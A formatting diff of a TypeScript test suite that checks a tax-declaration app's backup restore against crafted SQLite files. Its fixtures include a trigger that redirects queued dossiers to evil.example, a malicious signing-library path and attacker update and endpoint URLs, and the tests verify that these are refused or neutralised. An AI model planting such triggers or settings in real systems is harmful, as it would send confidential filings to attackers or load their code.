@@ -45,7 +45,8 @@ function craft(mutate: (db: Database.Database) => void, migrateUpTo?: number): s
 
 const upload = (file: string) => ({ file: { name: 'sao-luu.db', base64: readFileSync(file).toString('base64') } });
 
-const backupFiles = (ctx: TestContext) => (existsSync(join(ctx.dataDir, 'backups')) ? readdirSync(join(ctx.dataDir, 'backups')) : []);
+const backupFiles = (ctx: TestContext) =>
+  existsSync(join(ctx.dataDir, 'backups')) ? readdirSync(join(ctx.dataDir, 'backups')) : [];
 
 async function expectRefused(ctx: TestContext, file: string, code: string, message: RegExp) {
   const before = backupFiles(ctx);
@@ -70,25 +71,60 @@ const queueEntry = (db: Database.Database, endpoint: string) =>
 describe('a backup is untrusted input', () => {
   it('refuses a backup carrying a trigger that would forward queued dossiers elsewhere', async () => {
     const ctx = live();
-    const file = craft((db) => db.exec("CREATE TRIGGER steal AFTER INSERT ON ivan_outbox BEGIN UPDATE ivan_outbox SET endpoint = 'https://evil.example/' WHERE id = NEW.id; END"));
+    const file = craft((db) =>
+      db.exec(
+        "CREATE TRIGGER steal AFTER INSERT ON ivan_outbox BEGIN UPDATE ivan_outbox SET endpoint = 'https://evil.example/' WHERE id = NEW.id; END",
+      ),
+    );
     await expectRefused(ctx, file, 'BACKUP_SCHEMA', /không khớp.*thừa trigger steal.*dữ liệu hiện tại được giữ nguyên/);
   });
 
   it('refuses extra views, extra tables, extra or missing columns and missing indexes', async () => {
     const ctx = live();
-    await expectRefused(ctx, craft((db) => db.exec('CREATE VIEW v AS SELECT * FROM settings')), 'BACKUP_SCHEMA', /thừa view v/);
-    await expectRefused(ctx, craft((db) => db.exec('CREATE TABLE loot (x TEXT)')), 'BACKUP_SCHEMA', /thừa bảng loot/);
-    await expectRefused(ctx, craft((db) => db.exec('ALTER TABLE settings ADD COLUMN hook TEXT')), 'BACKUP_SCHEMA', /bảng settings khác cấu trúc/);
-    await expectRefused(ctx, craft((db) => db.exec('DROP INDEX audit_log_subject')), 'BACKUP_SCHEMA', /thiếu chỉ mục audit_log_subject/);
+    await expectRefused(
+      ctx,
+      craft((db) => db.exec('CREATE VIEW v AS SELECT * FROM settings')),
+      'BACKUP_SCHEMA',
+      /thừa view v/,
+    );
+    await expectRefused(
+      ctx,
+      craft((db) => db.exec('CREATE TABLE loot (x TEXT)')),
+      'BACKUP_SCHEMA',
+      /thừa bảng loot/,
+    );
+    await expectRefused(
+      ctx,
+      craft((db) => db.exec('ALTER TABLE settings ADD COLUMN hook TEXT')),
+      'BACKUP_SCHEMA',
+      /bảng settings khác cấu trúc/,
+    );
+    await expectRefused(
+      ctx,
+      craft((db) => db.exec('DROP INDEX audit_log_subject')),
+      'BACKUP_SCHEMA',
+      /thiếu chỉ mục audit_log_subject/,
+    );
   });
 
   it('refuses a "hollow" backup (settings and audit log only), whatever version it claims', async () => {
     const ctx = live();
-    await expectRefused(ctx, craft(() => undefined, 10), 'BACKUP_INVALID', /lược đồ 10.*không khôi phục/);
+    await expectRefused(
+      ctx,
+      craft(() => undefined, 10),
+      'BACKUP_INVALID',
+      /lược đồ 10.*không khôi phục/,
+    );
     await expectRefused(
       ctx,
       craft((db) => {
-        for (const t of (db.prepare("SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT IN ('settings', 'audit_log') AND name NOT LIKE 'sqlite_%'").all() as { name: string }[]).map((r) => r.name)) {
+        for (const t of (
+          db
+            .prepare(
+              "SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT IN ('settings', 'audit_log') AND name NOT LIKE 'sqlite_%'",
+            )
+            .all() as { name: string }[]
+        ).map((r) => r.name)) {
           db.pragma('foreign_keys = OFF');
           db.exec(`DROP TABLE ${t}`);
         }
@@ -96,7 +132,12 @@ describe('a backup is untrusted input', () => {
       'BACKUP_SCHEMA',
       /Cấu trúc bản sao lưu không khớp.*thiếu/,
     );
-    await expectRefused(ctx, craft((db) => db.pragma('user_version = 55')), 'BACKUP_INVALID', /lược đồ 55/);
+    await expectRefused(
+      ctx,
+      craft((db) => db.pragma('user_version = 55')),
+      'BACKUP_INVALID',
+      /lược đồ 55/,
+    );
   });
 
   it('drops settings that load code or send data elsewhere, holds queued dossiers, and lists them for the clerk', async () => {
@@ -104,7 +145,9 @@ describe('a backup is untrusted input', () => {
     const file = craft((db) => {
       setSetting(db, 'signing.userLibraries', ['/tmp/evil/libpwn.so']);
       setSetting(db, 'updates.url', 'https://evil.example/updates/');
-      db.prepare("INSERT INTO ivan_provider_settings (unit_code, provider_code, endpoint, username, updated_at) VALUES ('TS12345', '00040', 'https://evil.example/ivan', 'ketoan', 'x')").run();
+      db.prepare(
+        "INSERT INTO ivan_provider_settings (unit_code, provider_code, endpoint, username, updated_at) VALUES ('TS12345', '00040', 'https://evil.example/ivan', 'ketoan', 'x')",
+      ).run();
       queueEntry(db, 'https://evil.example/ivan');
     });
     const r = await ctx.value('backup.restore', upload(file));
@@ -119,7 +162,10 @@ describe('a backup is untrusted input', () => {
     expect(getSetting(ctx.db, 'signing.userLibraries', null)).toBeNull();
     expect(getSetting(ctx.db, 'updates.url', null)).toBeNull();
     expect(ctx.db.prepare('SELECT COUNT(*) AS n FROM ivan_provider_settings').get()).toEqual({ n: 0 });
-    expect(ctx.db.prepare('SELECT next_attempt_at, last_error_code FROM ivan_outbox').get()).toEqual({ next_attempt_at: HELD, last_error_code: 'RESTORED_ENDPOINT' });
+    expect(ctx.db.prepare('SELECT next_attempt_at, last_error_code FROM ivan_outbox').get()).toEqual({
+      next_attempt_at: HELD,
+      last_error_code: 'RESTORED_ENDPOINT',
+    });
     // A sender finds nothing to send until the clerk confirms.
     const sent = await ctx.value('ivan.outboxSend', { poll: false });
     expect(sent.report.attempted).toBe(0);
@@ -134,7 +180,13 @@ describe('a backup is untrusted input', () => {
     await ctx.value('settings.set', { patch: { 'backup.keep': 7 } });
     const beforeIds = (await ctx.value('audit.list', { subjectType: 'setting', limit: 1000 })).items.map((e) => e.id);
     // A backup from another PC, with a history of its own.
-    const other = craft((db) => db.prepare("INSERT INTO audit_log (at, actor, action, subject_type, subject_id, detail) VALUES ('2015-09-01T00:00:00.000Z', 'may-khac', 'settings.changed', 'setting', 'ui.confirmSubmit', '{}')").run());
+    const other = craft((db) =>
+      db
+        .prepare(
+          "INSERT INTO audit_log (at, actor, action, subject_type, subject_id, detail) VALUES ('2015-09-01T00:00:00.000Z', 'may-khac', 'settings.changed', 'setting', 'ui.confirmSubmit', '{}')",
+        )
+        .run(),
+    );
     await ctx.value('backup.restore', { name: made.backup.name });
     await ctx.value('backup.restore', upload(other));
     const after = await ctx.value('audit.list', { subjectType: 'setting', limit: 1000 });
@@ -165,7 +217,13 @@ describe('a backup is untrusted input', () => {
     const stale = join(backups, `.incoming-${hostname()}-999999-1.db`);
     writeFileSync(stale, 'crafted');
     const oldCopy = join(backups, 'kekhai-manual-20150101-000000.db');
-    copyFileSync(join(backups, readdirSync(backups).find((n) => n.startsWith('kekhai-manual'))!), oldCopy);
+    copyFileSync(
+      join(
+        backups,
+        readdirSync(backups).find((n) => n.startsWith('kekhai-manual'))!,
+      ),
+      oldCopy,
+    );
     const { chmodSync } = await import('node:fs');
     chmodSync(oldCopy, 0o644);
     first.close();
@@ -185,7 +243,11 @@ describe('a backup is untrusted input', () => {
     dirs.push(data);
     const set = await runCli(['settings', 'set', 'backup.keep', '9', '--json'], { data });
     expect(set.code, set.stderr + set.stdout).toBe(0);
-    const file = craft((db) => db.exec("CREATE TRIGGER steal AFTER INSERT ON ivan_outbox BEGIN UPDATE ivan_outbox SET endpoint = 'https://evil.example/'; END"));
+    const file = craft((db) =>
+      db.exec(
+        "CREATE TRIGGER steal AFTER INSERT ON ivan_outbox BEGIN UPDATE ivan_outbox SET endpoint = 'https://evil.example/'; END",
+      ),
+    );
     const r = await runCli(['restore', file, '--json'], { data });
     expect(r.code).toBe(1);
     expect(r.json.error.code).toBe('BACKUP_SCHEMA');
